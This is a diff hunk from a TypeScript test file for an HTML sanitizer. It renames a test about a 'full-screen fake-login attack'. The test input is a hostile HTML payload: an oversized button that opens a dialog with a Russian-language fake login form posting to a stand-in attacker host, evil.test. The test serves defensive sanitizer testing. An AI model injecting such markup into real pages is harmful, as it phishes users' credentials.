@@ -170,8 +170,8 @@ const html = async (dirty: string, kind: 'reader' | 'page') => {
   return box;
 };
 
-describe('sanitizer allowlists per kind (issue 13)', () => {
-  it('the fake-login attack of issue 13 leaves text only', async () => {
+describe('sanitizer allowlists per kind', () => {
+  it('the full-screen fake-login attack leaves text only', async () => {
     const box = await html(
       '<button command="show-modal" commandfor="d"><img width="4000" height="4000" src="data:image/svg+xml,x"></button>' +
         '<dialog id="d" open><h1>Сессия истекла</h1><form action="https://evil.test/login"><input name="email"><button>Войти</button></form></dialog>',
